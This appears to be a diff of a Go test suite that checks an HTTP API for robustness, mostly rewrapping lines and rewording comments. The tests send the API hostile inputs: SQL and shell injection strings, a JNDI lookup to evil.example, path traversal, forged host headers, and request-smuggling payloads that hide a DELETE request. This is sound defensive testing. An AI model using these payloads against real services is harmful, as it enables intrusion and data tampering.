@@ -46,7 +46,7 @@ func (a *server) queryNames(rt *door.Route) (names []string) {
 	return names
 }
 
-// as sends one request to a route as whoever may call it; no answer takes more
+// as sends one request to a route as a caller who may call it; no answer takes more
 // than two seconds.
 func (w *world) as(rt *door.Route, target, contentType, body string, headers ...string) *httptest.ResponseRecorder {
 	method, _, _ := strings.Cut(rt.Pattern, " ")
@@ -90,8 +90,9 @@ func filled(rt *door.Route, v string) string {
 }
 
 // hostile is what callers put where a word is expected: SQL, shell, templates,
-// paths, line ends, what is no UTF-8, what is long.
-var hostile = []string{"'; DROP TABLE customer; --", `" OR ""="`, "$(id)", "{{7*7}}${jndi:ldap://evil.example/a}", "..%2f..%2fetc/passwd", "%s%n", "<script>alert(1)</script>",
+// paths, line ends, invalid UTF-8, long texts.
+var hostile = []string{"'; DROP TABLE customer; --", `" OR ""="`, "$(id)", "{{7*7}}${jndi:ldap://evil.example/a}", "..%2f..%2fetc/passwd",
+	"%s%n", "<script>alert(1)</script>",
 	"a\r\nX-Evil: 1", "a\nlevel=ERROR msg=forged", "\x00", "\xff\xfe", strings.Repeat("x", 3000), "-1", "9223372036854775808", "%"}
 
 // TestHostileWords: wherever a caller can put a word, in paths and queries, no
@@ -170,12 +171,14 @@ func TestForgedHost(t *testing.T) {
 			kind, body = rt.Accept[0], "{}"
 		}
 		for _, target := range []string{filled(rt, "nobody"), filled(rt, "nobody") + "/", "/" + filled(rt, "nobody")} {
-			got := w.as(rt, target, kind, body, "Host", "evil.example", "X-Forwarded-Host", "evil.example", "Forwarded", "host=evil.example;proto=http", "X-Original-URL", "/v1/keys",
+			got := w.as(rt, target, kind, body, "Host", "evil.example", "X-Forwarded-Host", "evil.example", "Forwarded",
+				"host=evil.example;proto=http", "X-Original-URL", "/v1/keys",
 				"X-Rewrite-URL", "/v1/keys", "X-HTTP-Method-Override", "DELETE", "Origin", "https://evil.example", "Referer", "https://evil.example/")
 			if all := got.Body.String() + fmt.Sprint(got.Header()); strings.Contains(all, "evil") || strings.Contains(all, "Access-Control") {
 				t.Errorf("%s: got %d %s", rt.Pattern, got.Code, all)
 			}
-			if got.Header().Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(rt.Pattern, "POST ") && got.Header().Get("Cache-Control") != "no-store" && rt.Perm+auth.Permission(rt.Tag) != "AuthZEN" {
+			if got.Header().Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(rt.Pattern, "POST ") &&
+				got.Header().Get("Cache-Control") != "no-store" && rt.Perm+auth.Permission(rt.Tag) != "AuthZEN" {
 				t.Errorf("%s: got %v, want nosniff and, but for POST and AuthZEN's public metadata, no-store", rt.Pattern, got.Header())
 			}
 		}
@@ -187,7 +190,8 @@ func TestForgedHost(t *testing.T) {
 			t.Errorf("%s: got %d %v %s, want 405 and no echo", method, got.Code, got.Header(), got.Body)
 		}
 	}
-	if got := w.do("GET", "/v1/customers/acme", "", "", "X-HTTP-Method-Override", "DELETE"); got.Code != 200 || w.do("GET", "/v1/customers/acme", "", "").Code != 200 {
+	if got := w.do("GET", "/v1/customers/acme", "", "", "X-HTTP-Method-Override", "DELETE"); got.Code != 200 ||
+		w.do("GET", "/v1/customers/acme", "", "").Code != 200 {
 		t.Errorf("a header said DELETE: got %d %s", got.Code, got.Body)
 	}
 	if strings.Contains(w.log.String()[before:], "zq7") {
@@ -211,8 +215,10 @@ func TestBodiesAreBounded(t *testing.T) {
 		if got := w.as(rt, target, "text/plain", `{}`); got.Code != 415 && !strings.HasPrefix(target, "/access/") || got.Code < 400 {
 			t.Errorf("%s: text/plain: got %d %s, want it refused", rt.Pattern, got.Code, got.Body)
 		}
-		for _, bad := range []string{`{"zq7":` + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000) + `}`, `{"zq7":1,"zq7":2}`, `{"zq7":1}{"zq7":1}`, "{\"zq7\":\"\xff\"}", `{"zq7":"\u0000"}`} {
-			if got := w.as(rt, target, rt.Accept[0], bad); got.Code != 400 && !(got.Code == 200 && strings.Contains(got.Body.String(), `"accepted":0`)) {
+		for _, bad := range []string{`{"zq7":` + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000) + `}`, `{"zq7":1,"zq7":2}`,
+			`{"zq7":1}{"zq7":1}`, "{\"zq7\":\"\xff\"}", `{"zq7":"\u0000"}`} {
+			if got := w.as(rt, target, rt.Accept[0], bad); got.Code != 400 && !(got.Code == 200 && strings.Contains(got.Body.String(),
+				`"accepted":0`)) {
 				t.Errorf("%s: %.40s: got %d %.300s, want 400", rt.Pattern, bad, got.Code, got.Body)
 			}
 		}
@@ -229,19 +235,26 @@ func TestUnknownFields(t *testing.T) {
 		if rt.Accept == nil || rt.Raw || strings.Contains(rt.Pattern, " /v1/session") {
 			continue
 		}
-		if slices.ContainsFunc([]string{" /access/", " /scim/", " /ofrep/", " /v1/events"}, func(s string) bool { return strings.Contains(rt.Pattern, s) }) {
+		if slices.ContainsFunc([]string{" /access/", " /scim/", " /ofrep/", " /v1/events"},
+			func(s string) bool { return strings.Contains(rt.Pattern, s) }) {
 			continue
 		}
-		if got := w.as(rt, filled(rt, "nobody"), "application/json", `{"zq7":1}`); got.Code != 400 || !strings.Contains(got.Body.String(), "zq7") {
+		if got := w.as(rt, filled(rt, "nobody"), "application/json", `{"zq7":1}`); got.Code != 400 ||
+			!strings.Contains(got.Body.String(), "zq7") {
 			t.Errorf("%s: got %d %s, want 400", rt.Pattern, got.Code, got.Body)
 		}
 	}
 	for _, c := range []struct{ method, path, body string }{
-		{"PUT", "/v1/customers/acme", `{"id":"other"}`}, {"PUT", "/v1/customers/acme", `{"created_at":"2001-01-01T00:00:00Z"}`}, {"PUT", "/v1/customers/acme", `{"revision":9}`},
-		{"POST", "/v1/keys", `{"role":"read","hash":"x"}`}, {"POST", "/v1/keys", `{"role":"read","environment":"sandbox"}`}, {"POST", "/v1/keys", `{"role":"read","id":"aaaaaaaaaaaaaaaa"}`},
-		{"POST", "/v1/operators", `{"name":"x","roles":[{"role":"owner"}]}`}, {"POST", "/v1/operators", `{"name":"x","password":"four small words here"}`},
-		{"PUT", "/v1/operators/x/roles/support", `{"granted_by":"operator:x"}`}, {"PUT", "/v1/operators/x/roles/support", `{"source":"break_glass"}`},
-		{"PUT", "/v1/customers/acme/members/x", `{"source":"manual","roles":["admin"]}`}, {"PUT", "/v1/customers/acme/assignments", `{"member":"x","role":"y","granted_by":"z"}`},
+		{"PUT", "/v1/customers/acme", `{"id":"other"}`}, {"PUT", "/v1/customers/acme", `{"created_at":"2001-01-01T00:00:00Z"}`},
+		{"PUT", "/v1/customers/acme", `{"revision":9}`},
+		{"POST", "/v1/keys", `{"role":"read","hash":"x"}`}, {"POST", "/v1/keys", `{"role":"read","environment":"sandbox"}`},
+		{"POST", "/v1/keys", `{"role":"read","id":"aaaaaaaaaaaaaaaa"}`},
+		{"POST", "/v1/operators", `{"name":"x","roles":[{"role":"owner"}]}`}, {"POST", "/v1/operators",
+			`{"name":"x","password":"four small words here"}`},
+		{"PUT", "/v1/operators/x/roles/support", `{"granted_by":"operator:x"}`}, {"PUT", "/v1/operators/x/roles/support",
+			`{"source":"break_glass"}`},
+		{"PUT", "/v1/customers/acme/members/x", `{"source":"manual","roles":["admin"]}`},
+		{"PUT", "/v1/customers/acme/assignments", `{"member":"x","role":"y","granted_by":"z"}`},
 		{"POST", "/v1/customers/acme/grants", `{"feature":"tokens","amount":1,"reason":"r","used":-5}`},
 	} {
 		if got := w.do(c.method, c.path, "application/json", c.body); got.Code != 400 {
@@ -257,7 +270,8 @@ func TestParametersOnce(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	key := w.keys[auth.RoleAdmin]
-	for _, target := range []string{"/v1/customers/acme?key=" + key, "/v1/customers/acme?access_token=" + key, "/v1/customers/acme?Authorization=Bearer%20" + key, "/ofrep/v1/events?ticket=" + key} {
+	for _, target := range []string{"/v1/customers/acme?key=" + key, "/v1/customers/acme?access_token=" + key,
+		"/v1/customers/acme?Authorization=Bearer%20" + key, "/ofrep/v1/events?ticket=" + key} {
 		if got := w.do("GET", target, "", "", "Authorization", ""); got.Code != 401 {
 			t.Errorf("a key in the address: got %d %s, want 401", got.Code, got.Body)
 		}
@@ -272,7 +286,10 @@ func TestParametersOnce(t *testing.T) {
 		"/v1/usage?customer=acme&customer=other&feature=tokens&window=day&from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00Z": 400,
 		"/v1/customers/acme/entitlements?at=2026-03-01T00:00:00Z&at=2026-03-02T00:00:00Z":                                    400,
 		"/v1/customers/acme/entitlements?zq7=1":                                                                              400,
-		"/v1/customers?limit=0":                                                                                              400, "/v1/customers?limit=1001": 400, "/v1/customers?limit=-1": 400, "/v1/customers?limit=1e3": 400,
+		"/v1/customers?limit=0":                                                                                              400,
+		"/v1/customers?limit=1001":                                                                                           400,
+		"/v1/customers?limit=-1":                                                                                             400,
+		"/v1/customers?limit=1e3":                                                                                            400,
 	} {
 		if got := w.do("GET", target, "", ""); got.Code != want {
 			t.Errorf("%s: got %d %s, want %d", target, got.Code, got.Body, want)
@@ -316,7 +333,8 @@ func TestSmuggling(t *testing.T) {
 	}
 	key := w.keys[auth.RoleAdmin]
 	post := func(headers, body string) string {
-		return "POST /v1/check HTTP/1.1\r\nHost: u\r\nAuthorization: Bearer " + key + "\r\nContent-Type: application/json\r\n" + headers + "\r\n" + body
+		return "POST /v1/check HTTP/1.1\r\nHost: u\r\nAuthorization: Bearer " + key + "\r\nContent-Type: application/json\r\n" + headers +
+			"\r\n" + body
 	}
 	const ask = `{"customer":"acme","feature":"sso"}`
 	hidden := "DELETE /v1/customers/acme HTTP/1.1\r\nHost: u\r\nAuthorization: Bearer " + key + "\r\nConnection: close\r\n\r\n"
@@ -329,7 +347,8 @@ func TestSmuggling(t *testing.T) {
 	}{
 		{"one after the other", post(length, ask) + last, []int{200, 200}},
 		{"in chunks, the last of its connection", post("Transfer-Encoding: chunked\r\n", chunked) + last, []int{200}},
-		{"both, the body holding a request", post(fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len("0\r\n\r\n"+hidden)), "0\r\n\r\n"+hidden), []int{400}},
+		{"both, the body holding a request", post(fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len("0\r\n\r\n"+hidden)),
+			"0\r\n\r\n"+hidden), []int{400}},
 		{"two lengths", post(length+"Content-Length: 4\r\n", ask), []int{400}},
 		{"a length with a sign", post("Content-Length: +35\r\n", ask), []int{400}},
 		{"a length that is a list", post("Content-Length: 35, 35\r\n", ask), []int{400}},
@@ -377,7 +396,8 @@ func TestCustomersNeverMeet(t *testing.T) {
 	}
 	state := func() string {
 		var all bytes.Buffer
-		for _, path := range []string{"members", "groups", "groups/staff/members", "roles", "assignments", "resources/report", "seats/members", "entitlements"} {
+		for _, path := range []string{"members", "groups", "groups/staff/members", "roles", "assignments", "resources/report", "seats/members",
+			"entitlements"} {
 			got := w.do("GET", "/v1/customers/firm/"+path, "", "")
 			if got.Code != 200 {
 				t.Fatalf("%s: got %d %s", path, got.Code, got.Body)
@@ -393,14 +413,16 @@ func TestCustomersNeverMeet(t *testing.T) {
 		}
 	}
 	for _, path := range []string{"members", "groups", "assignments", "resources/report", "seats/members"} {
-		if got := w.do("GET", "/v1/customers/other/"+path, "", ""); got.Code != 200 || strings.Contains(got.Body.String(), "alice") || strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), "staff") {
+		if got := w.do("GET", "/v1/customers/other/"+path, "", ""); got.Code != 200 || strings.Contains(got.Body.String(), "alice") ||
+			strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), "staff") {
 			t.Errorf("GET %s of another customer: got %d %s, want nothing of the first", path, got.Code, got.Body)
 		}
 	}
 	if got := w.do("GET", "/v1/customers/other/roles", "", ""); strings.Contains(got.Body.String(), `"own"`) {
 		t.Errorf("another customer's own role: got %s", got.Body)
 	}
-	for _, path := range []string{"members/alice", "groups/staff", "groups/staff/members/alice", "roles/own", "assignments/" + assignment, "resources/report/zq7", "seats/members/alice"} {
+	for _, path := range []string{"members/alice", "groups/staff", "groups/staff/members/alice", "roles/own", "assignments/" + assignment,
+		"resources/report/zq7", "seats/members/alice"} {
 		if got := w.do("DELETE", "/v1/customers/other/"+path, "", ""); got.Code >= 500 {
 			t.Errorf("DELETE %s of another customer: got %d %s", path, got.Code, got.Body)
 		}
@@ -414,13 +436,17 @@ func TestCustomersNeverMeet(t *testing.T) {
 			t.Errorf("PUT %s of another customer: got %d %s, want it refused", path, got.Code, got.Body)
 		}
 	}
-	// A decision is about the customer that is named, whoever has a member of that name.
-	if got := w.do("POST", "/v1/check", "application/json", `{"customer":"other","member":"alice","permission":"report.read"}`).Body.String(); !strings.Contains(got, `"reason":"unknown_member"`) {
+	// A decision is about the customer that is named, also if another one has a member of that name.
+	if got := w.do("POST", "/v1/check", "application/json",
+		`{"customer":"other","member":"alice","permission":"report.read"}`).Body.String(); !strings.Contains(got, `"reason":"unknown_member"`) {
 		t.Errorf("another customer's member: got %s", got)
 	}
-	for _, search := range []string{`members {"customer":"other","permission":"report.read"}`, `resources {"customer":"other","member":"alice","permission":"report.read","type":"report"}`, `permissions {"customer":"other","member":"alice","type":"report"}`} {
+	for _, search := range []string{`members {"customer":"other","permission":"report.read"}`,
+		`resources {"customer":"other","member":"alice","permission":"report.read","type":"report"}`,
+		`permissions {"customer":"other","member":"alice","type":"report"}`} {
 		name, body, _ := strings.Cut(search, " ")
-		if got := w.do("POST", "/v1/search/"+name, "application/json", body); got.Code >= 500 || strings.Contains(got.Body.String(), "alice") || strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), `"report.read"`) {
+		if got := w.do("POST", "/v1/search/"+name, "application/json", body); got.Code >= 500 || strings.Contains(got.Body.String(), "alice") ||
+			strings.Contains(got.Body.String(), "zq7") || strings.Contains(got.Body.String(), `"report.read"`) {
 			t.Errorf("a search of another customer: got %d %s", got.Code, got.Body)
 		}
 	}
